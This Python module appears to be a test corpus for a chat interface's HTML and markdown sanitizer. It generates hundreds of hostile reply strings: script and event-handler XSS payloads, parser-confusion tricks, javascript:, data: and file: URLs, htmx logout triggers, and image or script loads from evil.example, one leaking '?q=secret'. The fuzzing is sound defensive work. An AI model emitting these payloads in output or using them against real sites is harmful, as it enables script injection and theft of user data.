"""Hostile replies, by kind: each must come out inert, whole or cut anywhere."""

import itertools

SCRIPTS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script>alert(1)
<script/src=data:,alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<img/src=x/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<img src=http://evil.example/?q=secret>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<applet code=x></applet>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(https://evil.example/)}</style>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="/logout">x</a>
<a id="composer" name="csrfmiddlewaretoken">x</a>
<form action="/logout" method="post"><button>Go</button></form>
<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<input name="csrfmiddlewaretoken" value="x">
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=x onerror=alert(1)></video>
<video poster=https://evil.example/></video>
<audio src=https://evil.example/ onerror=alert(1)></audio>
<video><source onerror=alert(1)></video>
<marquee onstart=alert(1)>x</marquee>
<keygen autofocus onfocus=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<noembed><img src=x onerror=alert(1)></noembed>
<listing><img src=x onerror=alert(1)></listing>
<isindex type=image src=1 onerror=alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<slot onslotchange=alert(1)></slot>
<portal src=https://evil.example></portal>
<div style="position:fixed;inset:0;background:url(https://evil.example/)">x</div>
<div style="width:expression(alert(1))">x</div>
<p style="background:url('javascript:alert(1)')">x</p>
<table background="https://evil.example/x.png"><td background=javascript:alert(1)>x</table>
<div contenteditable onfocus=alert(1) tabindex=0 id=x>x</div>
<div onpointerenter=alert(1)>x</div>
<x onclick=alert(1)>x</x>
<x-element is="y" onclick=alert(1)>x</x-element>
<a href=https://a.example target=_self rel=opener ping=https://evil.example>x</a>
<div hx-get="/logout" hx-trigger="load">x</div>
<div data-hx-get="/logout" data-hx-trigger="load">x</div>
<div hx-on:click="alert(1)">x</div>
<div hx-on::load="alert(1)" hx-trigger=load>x</div>
<div hx-vals='js:{a:alert(1)}' hx-post=/x>x</div>
<div hx-ws:connect="/ws" hx-swap-oob="true" id="messages">x</div>
<hx-partial hx-target="#sidebar">x</hx-partial>
<div ws-connect="/ws/" sse-connect="/s">x</div>
<div data-open data-message-id="1">x</div>
<div id="message-1" class="message-body">x</div>
<button class="code-copy" onclick=alert(1)>Copy</button>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if IE]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)>
<!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html SYSTEM "https://evil.example/">
<!ENTITY x "<script>alert(1)</script>">
</div></article><script>alert(1)</script>
</textarea></script></style></title><svg onload=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
\\<script>alert(1)</script>
<a href="https://a.example" onclick="alert(1)">x</a>
"><script>alert(1)</script>
' onmouseover='alert(1)
`<script>alert(1)</script>`
``<img src=x onerror=alert(1)>``
""".strip().split("\n")

ADDRESSES = """
javascript:alert(1)
JaVaScRiPt:alert(1)
JAVASCRIPT:alert(1)
 javascript:alert(1)
\x01javascript:alert(1)
\x1fjavascript:alert(1)
java\tscript:alert(1)
java\x00script:alert(1)
java&#10;script:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
javascript&#x3A;alert(1)
&#106;avascript:alert(1)
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)
&#0000106&#0000097vascript:alert(1)
javascript%3Aalert(1)
java\\script:alert(1)
\\javascript:alert(1)
javascript://a.example/%0aalert(1)
javascript\u2028:alert(1)
\u200bjavascript:alert(1)
\ufeffjavascript:alert(1)
feed:javascript:alert(1)
view-source:javascript:alert(1)
jar:javascript:alert(1)!/
x-javascript:alert(1)
livescript:alert(1)
mocha:alert(1)
vbscript:msgbox(1)
VBSCRIPT:msgbox(1)
vb&#115;cript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
DATA:text/html,x
data:image/svg+xml,<svg/onload=alert(1)>
data:,x
file:///etc/passwd
FILE://c:/windows
smb://evil.example/share
ms-msdt:/id
ms-word:ofe|u|https://evil.example/x.docm
search-ms:query=x
vscode://file/x
slack://x
tel:+123
sms:+123
intent://x#Intent;scheme=http;end
blob:https://a.example/x
filesystem:https://a.example/x
about:blank
chrome://settings
ws://a.example/
ftp://a.example/
//evil.example/x
\\\\evil.example\\x
/\\evil.example
/logout
logout
./logout
../admin
?next=/admin
#composer
https:/logout
https:logout
http:logout
https:\\\\evil.example
http:///x
https://
https://?x
https://#x
https://[bad
https://a.example\x00.evil.example
https://a.example\u202egpj.exe
https://a.example/"onmouseover="alert(1)
https://a.example/'onmouseover='alert(1)
https://a.example/`x`
https://a.example/<script>
https://user:pass@a.example
mailto:
mailto:/x
mailto:a@b.example?body=<script>
MAILTO:a@b.example
httpsx://a.example
http;//a.example
h\nttps://a.example
urn:x
cid:x
mid:x
""".strip("\n").split("\n")

LINK_FORMS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "![x](<{}>)",
    "[![x]({0})]({0})",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x][y]\n\n[y]: <{}> 'title'",
]

MARKDOWN = [
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example '\"><script>alert(1)</script>')",
    '![" onerror="alert(1)](https://a.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://a.example/x.png)",
    "![x](https://a.example/x.png 'a\" onload=\"alert(1)')",
    "[<script>alert(1)</script>](https://a.example)",
    "[a [b](https://b.example) c](https://a.example)",
    "[![a](https://a.example/a.png)](https://b.example)",
    "[![a](javascript:x)](https://b.example)",
    "![[a](javascript:x)](https://a.example/x.png)",
    "![![a](https://b.example/y.png)](https://a.example/x.png)",
    "https://a.example/<script>alert(1)</script>",
    '<https://a.example/?a="onclick=alert(1)>',
    "<a@b.example>",
    "<javascript:alert(1)@a.example>",
    "```<script>alert(1)</script>\nx\n```",
    '```python" onload="alert(1)\nx\n```',
    "```python onclick=alert(1)\nx\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "```html\n<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```svg\n<svg onload=alert(1)>\n```",
    "```xml\n<!--</code>--><![CDATA[</code><script>]]>\n```",
    "```js\n`</script><img src=x onerror=alert(1)>`\n```",
    "```../../../etc/passwd\nx\n```",
    "```language-x hx-get=/logout\nx\n```",
    "```\u202epython\nx\n```",
    "~~~\n</code></pre><script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\class{message-body}{x}$",
    "$\\cssId{composer}{x}$",
    "$\\htmlData{hx-get=/logout}{x}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\unicode{60}script$",
    "$\\color{red;background:url(https://evil.example)}{x}$",
    '$\\color{"onload=alert(1)}{x}$',
    "$\\textcolor{#f00}{x}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}\\a$",
    "$</math><script>alert(1)</script>$",
    "$$\\begin{equation}\\label{composer}x\\end{equation}\\eqref{composer}$$",
    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "\\[\\text{<img src=x onerror=alert(1)>}\\]",
    "$\\bad<script>alert(1)</script>$",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    "[^composer]\n\n[^composer]: <img src=x onerror=alert(1)>",
    "[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: y",
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "# x {#composer .message-body onclick=alert(1)}",
    "# <script>alert(1)</script>",
    "|<script>|\n|---|\n|<img src=x onerror=alert(1)>|",
    "|a|\n|:-:|\n|`|`|</td></table><script>|",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "- [x] <script>alert(1)</script>",
    "- [ ] <input type=text onfocus=alert(1)>",
    "99999999999. x",
    "999999999. x",
    "-1. x",
    "---\ntitle: <script>\n---\n",
    "[[logout]] [[/logout|x]]",
    ":::div{onclick=alert(1)}\nx\n:::",
    "{% load x %}{{ request }}{% csrf_token %}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %> ${alert(1)} #{x}",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>\udfff",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>\u2029",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x onerror=alert(1)>\u202e",
    "\x1b[31m<script>\x07",
    "\f<script>\f",
    "<script\x0c>alert(1)</script>",
    "a\r<script>\ralert(1)\r</script>\r",
]

NESTED = [
    "> {}",
    "- {}",
    "1. a\n\n   {}",
    "| a |\n|---|\n| {} |",
    "# {}",
    "**{}**",
    "[^1]\n\n[^1]: {}",
    "> [!TIP]\n> {}",
    "text\n{}",
    "text {} text",
]


def corpus() -> list[str]:
    """All hostile inputs."""
    links = [form.format(address) for address, form in itertools.product(ADDRESSES, LINK_FORMS)]
    nested = [
        form.format(script)
        for number, script in enumerate(SCRIPTS)
        for form in (NESTED[number % len(NESTED)], NESTED[(number * 7 + 3) % len(NESTED)])
    ]
    return [*SCRIPTS, *MARKDOWN, *links, *nested]
